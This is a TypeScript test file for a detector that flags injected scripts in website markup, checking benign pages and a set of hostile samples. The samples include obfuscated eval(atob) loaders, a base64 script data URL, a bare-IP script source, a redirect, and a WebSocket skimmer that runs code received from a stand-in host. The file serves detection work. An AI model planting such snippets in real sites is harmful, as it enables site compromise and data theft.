import { describe, expect, it } from 'vitest';
import { judgeMarkup } from '../../../src/database/judge-markup.ts';
import { isCompromise } from '../../../src/domain/finding.ts';

const OWN = new Set(['site.example']);
const rules = (html: string) => judgeMarkup(html, OWN).map(({ rule, confidence }) => `${rule} ${confidence}`);

describe('judgeMarkup', () => {
  it.each([
    [
      'a tag manager',
      '<script async src="https://www.googletagmanager.com/gtag/js?id=x"></script><script>window.dataLayer=[];gtag("config","x")</script>',
    ],
    [
      'a pixel in noscript',
      '<noscript><img height="1" width="1" style="display:none" src="https://www.facebook.com/tr?id=1"/></noscript>',
    ],
    [
      'an own script, below an own name too',
      '<script src="//cdn.site.example/a.js"></script><script src="/b.js"></script>',
    ],
    [
      'a page of thanks on the own host',
      '<script>document.addEventListener("wpcf7mailsent",function(){location="https://www.site.example/thanks"})</script>',
    ],
    [
      'a hidden part with own links',
      '<div style="display: none"><a href="/a">a</a><a href="/b">b</a><a href="https://site.example/c">c</a></div>',
    ],
    ['a menu far to the left', '<ul style="left:-9999px"><li><a href="https://www.facebook.com/x">f</a></li></ul>'],
    ['a lesson about scripts', '<pre>&lt;script&gt;eval(atob("x"))&lt;/script&gt;</pre>'],
    ['a small picture in base64', '<img src="data:image/png;base64,iVBORw0KGgo=">'],
    [
      'a payment form of a provider',
      '<script>var card=elements.create("card");fetch("https://api.stripe.com/v1/tokens",{body:cvc})</script>',
    ],
    [
      'structured data',
      '<script type="application/ld+json">{"@context":"https://schema.org","url":"https://other.example/"}</script>',
    ],
  ])('is quiet about %s', (_name, html) => {
    expect(rules(html)).toEqual([]);
  });

  it.each([
    [
      'numbers',
      `<script>document.write(String.fromCharCode(${'60,'.repeat(20)}62))</script>`,
      'database.hidden-script likely',
    ],
    ['hexadecimal codes', `<script>var a="${'\\x68'.repeat(40)}"</script>`, 'database.hidden-script likely'],
    [
      'a data address',
      '<script src="data:text/javascript;base64,YWxlcnQoMSk="></script>',
      'database.hidden-script likely',
    ],
    ['a host without a name', '<script src="http://192.0.2.7/a.js"></script>', 'database.foreign-script likely'],
    [
      'a refresh',
      '<meta http-equiv="refresh" content="0; url=https://goods.example.invalid/">',
      'database.redirect likely',
    ],
    ['JSON', '{"html":"\\u003cscript\\u003eeval(atob(1))\\u003c\\/script\\u003e"}', 'database.hidden-script likely'],
    [
      'a web socket',
      '<script>s=new WebSocket("wss://x.example.invalid");s.onmessage=function(e){new Function(e.data)()}</script>',
      'database.skimmer likely',
    ],
    ['an upper-case tag that never ends', '<SCRIPT>EVAL;eval(atob("x"))', 'database.hidden-script likely'],
  ])('finds a script by %s', (_name, html, expected) => {
    expect(rules(html)).toEqual([expected]);
  });

  it('does not call an account lost for a script or a button of an unknown host alone', () => {
    for (const html of [
      '<script src="https://widgets.example.invalid/a.js"></script>',
      '<script>b.onclick=function(){location.href="https://partner.example.invalid/"}</script>',
    ]) {
      const sightings = judgeMarkup(html, OWN);
      expect(sightings.length).toBe(1);
      expect(sightings.some((one) => isCompromise({ ...one, kind: 'database' }))).toBe(false);
    }
  });
});
